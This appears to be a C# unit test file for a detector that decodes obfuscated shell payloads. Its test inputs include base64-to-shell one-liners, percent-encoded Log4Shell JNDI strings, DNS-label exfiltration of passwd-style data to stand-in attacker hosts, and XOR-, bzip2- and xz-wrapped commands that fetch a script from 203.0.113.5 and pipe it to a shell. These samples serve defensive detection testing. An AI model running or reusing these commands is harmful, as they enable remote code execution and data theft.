using System.Collections.Generic;
using System.Linq;
using System.Text;
using B64Hunt.Decoding;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>
    /// The carriers and layers of issue 14: literals the command line hands to a decoder itself (any length), printf and
    /// echo -e escapes, percent-encoded request strings and Log4Shell strings, ${base64:...}, DNS labels, XOR with a
    /// literal key, uuencode, octal escapes, raw deflate, bzip2, xz and base32. Each form has a look-alike that must not decode.
    /// </summary>
    public class DecoderCarrierTests
    {
        private static IReadOnlyList<DecodedPayload> All(string line) => new PayloadDecoder().Decode(line);

        private static void Nothing(string line)
        {
            var results = All(line);
            Assert.True(results.Count == 0, $"unexpected payload in <{line}>: {string.Join(" | ", results.Select(r => string.Join(">", r.Chain) + ": " + r.DecodedText))}");
        }

        // ---- Decode sites: the command line decodes the literal itself ----

        [Theory]
        [InlineData("echo -n \"bHM=\" | base64 -d | sh", "ls")]
        [InlineData("echo 'dGVzdF9vaw==' | base64 -d", "test_ok")]
        [InlineData("base64 -d <<< aWQ= | bash", "id")]
        [InlineData("echo aWQ|base64 --decode|sh", "id")]
        [InlineData("bash -c \"$(echo aWQ= | base64 -d)\"", "id")]
        [InlineData("sh -c 'echo dw== | base64 -d | sh'", "w")]
        [InlineData("echo aWQ= | sudo /usr/bin/base64 -d | sh", "id")]
        [InlineData("echo aWQ= | openssl base64 -d | sh", "id")]
        [InlineData("echo aWQ= | openssl enc -d -a | sh", "id")]
        [InlineData("echo aWQ= | busybox base64 -d | sh", "id")]
        [InlineData("python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"", "id")]
        [InlineData("perl -MMIME::Base64 -e 'system(decode_base64(\"aWQ=\"))'", "id")]
        [InlineData("ruby -rbase64 -e 'system(Base64.decode64(\"aWQ=\"))'", "id")]
        [InlineData("php -r 'system(base64_decode(\"aWQ=\"));'", "id")]
        [InlineData("node -e \"require('child_process').execSync(Buffer.from('aWQ=', 'base64').toString())\"", "id")]
        [InlineData("perl -e 'system(unpack(\"m\", \"aWQ=\"))'", "id")]
        public void ShortLiteralHandedToADecoderIsDecoded(string line, string expected)
        {
            var payload = Single(line);
            Assert.Equal(expected, payload.DecodedText);
            Assert.False(payload.IsBinary);
        }

        [Theory]
        [InlineData("echo -n \"bHM=\" > /tmp/.x")]                // no decoder
        [InlineData("echo \"$PAYLOAD\" | base64 -d | sh")]           // the value is not in the text
        [InlineData("echo 'not base64!' | base64 -d")]               // not base64
        [InlineData("echo hello | base64 -d")]                        // an impossible length
        [InlineData("echo aWQ= | base64 | sh")]                       // encodes, does not decode
        [InlineData("echo 123e4567-e89b-12d3-a456-426614174000 | base64 -d")] // a UUID
        [InlineData("printf 'helloworld' | base64 -d")]               // valid by chance: a few bytes of noise
        public void LiteralLookAlikesAreNotDecoded(string line) => Nothing(line);

        [Fact]
        public void PrintfNewlineEscapesAreAppliedBeforeDecoding()
        {
            string b64 = B64(Command);
            string wrapped = string.Join("\\n", Enumerable.Range(0, (b64.Length + 19) / 20).Select(i => b64.Substring(i * 20, System.Math.Min(20, b64.Length - i * 20))));
            var payload = Single("printf '" + wrapped + "\\n' | base64 -d | sh");
            Assert.Equal(Command, payload.DecodedText);
            var echo = Single("bash -c \"$(echo -e '" + wrapped + "' | base64 -d)\"");
            Assert.Equal(Command, echo.DecodedText);
        }

        [Fact]
        public void PrintfWithFormatUsesItsArgument()
        {
            var payload = Single("printf %s '" + B64(Command) + "' | base64 -d | sh");
            Assert.Equal(Command, payload.DecodedText);
        }

        // ---- Percent-encoded request strings ----

        [Fact]
        public void FullyPercentEncodedBase64IsDecoded()
        {
            var results = All("GET /?q=" + PercentAll(B64(Command)) + " HTTP/1.1");
            var inner = Assert.Single(results, r => r.DecodedText == Command);
            Assert.Contains("percent", results[0].Chain);
            Assert.Equal("base64", inner.Chain.Last());
        }

        [Fact]
        public void PercentEncodedLog4ShellStringIsDecoded()
        {
            string jndi = "${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/" + B64(Command) + "}";
            string encoded = string.Concat(jndi.Select(c => char.IsLetterOrDigit(c) ? c.ToString() : "%" + ((int)c).ToString("X2")));
            Assert.Contains("%3D", encoded);
            var results = All("curl -H 'X-Api-Version: " + encoded + "' http://victim.example.com/");
            Assert.Equal(new[] { "percent" }, results[0].Chain);
            Assert.Equal(jndi, results[0].DecodedText);
            var inner = Assert.Single(results, r => r.Depth == 1);
            Assert.Equal(Command, inner.DecodedText);
        }

        [Theory]
        [InlineData("curl 'https://www.example.com/search?q=hello%20world%2C%20how%20are%20you%3F'")]
        [InlineData("wget http://mirror.example.org/pub/My%20Documents/report%20final%20v2.pdf")]
        public void OrdinaryPercentEncodedUrlsAreNotPayloads(string line) => Nothing(line);

        [Fact]
        public void Log4jBase64LookupIsDecoded()
        {
            var payload = Single("curl -A '${jndi:ldap://x.${base64:aWQ=}.example.com/a}' http://victim/");
            Assert.Equal("id", payload.DecodedText);
        }

        [Fact]
        public void OtherLog4jLookupsAreNotPayloads() => Nothing("curl -A '${jndi:ldap://${env:USER}.${sys:os.name}.example.com/a}' http://victim/");

        // ---- DNS labels ----

        [Theory]
        [InlineData("dig {0}.exfil.example.com")]
        [InlineData("nslookup {0}.d.example.net 8.8.8.8")]
        [InlineData("curl -s http://{0}.attacker.example.net/x")]
        [InlineData("ping -c 1 {0}.example.org")]
        public void Base64InDnsLabelsIsDecoded(string template)
        {
            const string data = "root:x:0:0:root:/root:/bin/bash";
            string label = B64(data).TrimEnd('=');
            var payload = Single(string.Format(template, label));
            Assert.Equal(data, payload.DecodedText);
            Assert.Equal(new[] { "dns-label", "base64" }, payload.Chain);
        }

        [Theory]
        [InlineData("ping -c 1 www.googleapis.com")]
        [InlineData("curl https://ajax.googleapis.com/ajax/libs/jquery/3.5.1/jquery.min.js")]
        [InlineData("curl -s https://ThisIsMyServerName01.example.com/health")]
        [InlineData("dig ec2-54-123-45-67.compute-1.amazonaws.com")]
        [InlineData("nslookup _kerberos._tcp.corp.example.com")]
        public void OrdinaryHostNamesAreNotPayloads(string line) => Nothing(line);

        // ---- XOR with a literal key ----

        [Fact]
        public void PythonXorWithLiteralKeyIsUndone()
        {
            const string inner = "import os;os.system(\"curl -s http://203.0.113.5/x.sh|sh\")";
            byte[] key = Encoding.ASCII.GetBytes("k3y");
            byte[] xored = Utf8(inner).Select((b, i) => (byte)(b ^ key[i % key.Length])).ToArray();
            var payload = Single("python3 -c \"import base64;k=b'k3y';d=base64.b64decode('" + B64(xored) + "');exec(bytes(b^k[i%len(k)] for i,b in enumerate(d)))\"");
            Assert.Equal(inner, payload.DecodedText);
            Assert.Equal(new[] { "base64", "xor" }, payload.Chain);
        }

        [Fact]
        public void PerlXorWithByteKeyIsUndone()
        {
            byte[] xored = Utf8(Command).Select(b => (byte)(b ^ 0x5a)).ToArray();
            var payload = Single("perl -e 'print map { chr(ord($_) ^ 0x5a) } split //, decode_base64(\"" + B64(xored) + "\")' | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "xor" }, payload.Chain);
        }

        [Fact]
        public void XorWithTheWrongKeyIsNotUndone()
        {
            byte[] xored = Utf8(Command).Select(b => (byte)(b ^ 0x5a)).ToArray();
            var results = All("perl -e 'print map { chr(ord($_) ^ 0x21) } split //, decode_base64(\"" + B64(xored) + "\")' | sh");
            Assert.DoesNotContain(results, r => r.Chain.Contains("xor"));
            Assert.DoesNotContain(results, r => r.DecodedText == Command);
        }

        // ---- uuencode, octal escapes ----

        [Fact]
        public void UudecodeBlockIsDecoded()
        {
            string uu = Uu(Utf8(Command)).Replace("\\", "\\\\").Replace("'", "'\\''");
            var payload = Single("printf 'begin 644 x.sh\\n" + uu + "\\n`\\nend\\n' | uudecode -o /dev/stdout | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "uuencode" }, payload.Chain);
        }

        [Fact]
        public void PerlUnpackUIsDecoded()
        {
            var payload = Single("perl -e \"system(unpack('u', '" + Uu(Utf8("id;uname -a")) + "'))\"");
            Assert.Equal("id;uname -a", payload.DecodedText);
            Assert.Equal(new[] { "uuencode" }, payload.Chain);
        }

        [Fact]
        public void UuencodeLookAlikeIsNotDecoded() => Nothing("echo 'begin 644 is a file mode' | uudecode");

        [Fact]
        public void OctalEscapesAreDecoded()
        {
            string octal = string.Concat(Utf8(Command).Select(b => "\\" + System.Convert.ToString(b, 8).PadLeft(3, '0')));
            var payload = Single("printf '" + octal + "' | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "octal" }, payload.Chain);
        }

        [Theory]
        [InlineData("sed 's/\\(foo\\)\\(bar\\)/\\2\\1\\2\\1/' file.txt")]
        [InlineData("printf '\\001\\002\\003\\004\\005' > /tmp/bytes")]
        public void OctalLookAlikesAreNotDecoded(string line) => Nothing(line);

        // ---- raw deflate, bzip2, xz, base32 ----

        [Fact]
        public void PhpGzinflateIsRawDeflate()
        {
            var payload = Single("php -r 'eval(gzinflate(base64_decode(\"" + B64(RawDeflate(Utf8(Command))) + "\")));'");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "deflate" }, payload.Chain);
        }

        [Fact]
        public void PythonMinus15IsRawDeflate()
        {
            var payload = Single("python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('" + B64(RawDeflate(Utf8(Command))) + "'),-15))\"");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "deflate" }, payload.Chain);
        }

        [Fact]
        public void RawDeflateIsNotTriedWithoutARawInflateCall()
        {
            var results = All("python3 -c \"import base64;exec(base64.b64decode('" + B64(RawDeflate(Utf8(Command))) + "'))\"");
            Assert.DoesNotContain(results, r => r.Chain.Contains("deflate"));
        }

        // python3 -c "import bz2,base64;print(base64.b64encode(bz2.compress(b'curl -s http://203.0.113.5/x.sh | bash')).decode())"
        private const string Bzip2Command = "QlpoOTFBWSZTWRRr4+oAAAuZgEAD+hA4RF5EIAAimjQaaPUBoUaMgaNMjQNzRqhMFFwQOsI82t8Oh3zdTx1YJ8XckU4UJAUa+PqA";

        // python3 -c "import lzma,base64;print(base64.b64encode(lzma.compress(b'curl -s http://203.0.113.5/x.sh | bash')).decode())"
        private const string XzCommand = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAlY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveC5zaCB8IGJhc2gAAACG+Rr8wUk2nQABPiarK06zH7bzfQEAAAAABFla";

        [Fact]
        public void Bzip2LayerIsRemoved()
        {
            var payload = Single("echo " + Bzip2Command + " | base64 -d | bunzip2 | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "bzip2" }, payload.Chain);
        }

        [Fact]
        public void XzLayerIsRemoved()
        {
            var payload = Single("echo " + XzCommand + " | base64 -d | xz -d | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "xz" }, payload.Chain);
        }

        [Fact]
        public void CorruptBzip2IsCutWithAWarning()
        {
            byte[] data = System.Convert.FromBase64String(Bzip2Command);
            for (int i = 20; i < data.Length; i++) data[i] ^= 0x55;
            var problems = new List<Problem>();
            var results = new PayloadDecoder().Decode("echo " + B64(data) + " | base64 -d | bunzip2 | sh", problems);
            Assert.DoesNotContain(results, r => r.DecodedText == Command);
            Assert.All(results, r => Assert.True(r.IsBinary || r.IsTruncated));
        }

        [Theory]
        [InlineData("echo {0} | base32 -d | sh")]
        [InlineData("basenc --base32 -d <<< {0} | sh")]
        [InlineData("python3 -c \"import base64,os;os.system(base64.b32decode('{0}'))\"")]
        public void Base32IsDecoded(string template)
        {
            string b32 = Base32(Utf8(Command));
            var payload = Single(string.Format(template, b32));
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base32" }, payload.Chain);
        }

        [Theory]
        [InlineData("echo ABCDEFGHIJKLMNOP234567 | sha256sum")]
        [InlineData("export LICENSE_KEY=MFRGGZDFMZTWQ2LK")]
        public void Base32LookAlikesAreNotDecoded(string line) => Nothing(line);

        // ---- helpers ----

        internal static string Base32(byte[] data)
        {
            const string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
            var sb = new StringBuilder();
            int buffer = 0, bits = 0;
            foreach (byte b in data)
            {
                buffer = (buffer << 8) | b;
                bits += 8;
                while (bits >= 5) { bits -= 5; sb.Append(alphabet[(buffer >> bits) & 31]); }
            }
            if (bits > 0) sb.Append(alphabet[(buffer << (5 - bits)) & 31]);
            while (sb.Length % 8 != 0) sb.Append('=');
            return sb.ToString();
        }

        /// <summary>One uuencoded line (at most 45 bytes): a length character, then four characters per three bytes.</summary>
        internal static string Uu(byte[] data)
        {
            var sb = new StringBuilder();
            sb.Append((char)(32 + data.Length));
            for (int i = 0; i < data.Length; i += 3)
            {
                int a = data[i], b = i + 1 < data.Length ? data[i + 1] : 0, c = i + 2 < data.Length ? data[i + 2] : 0;
                foreach (int six in new[] { a >> 2, ((a & 3) << 4) | (b >> 4), ((b & 15) << 2) | (c >> 6), c & 63 })
                    sb.Append(six == 0 ? '`' : (char)(32 + six));
            }
            return sb.ToString();
        }

        internal static byte[] RawDeflate(byte[] data)
        {
            var ms = new System.IO.MemoryStream();
            using (var d = new System.IO.Compression.DeflateStream(ms, System.IO.Compression.CompressionLevel.Optimal, true)) d.Write(data, 0, data.Length);
            return ms.ToArray();
        }
    }
}
